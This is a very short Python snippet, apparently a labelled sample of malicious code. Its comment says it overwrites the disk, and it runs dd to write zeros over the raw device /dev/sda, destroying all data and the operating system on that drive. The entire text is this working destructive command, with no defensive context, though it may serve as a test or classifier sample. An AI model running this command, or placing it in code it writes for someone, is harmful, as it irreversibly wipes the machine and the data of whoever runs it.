# malicious: overwrites the disk
import subprocess
subprocess.run(["dd", "if=/dev/zero", "of=/dev/sda", "bs=1M"])
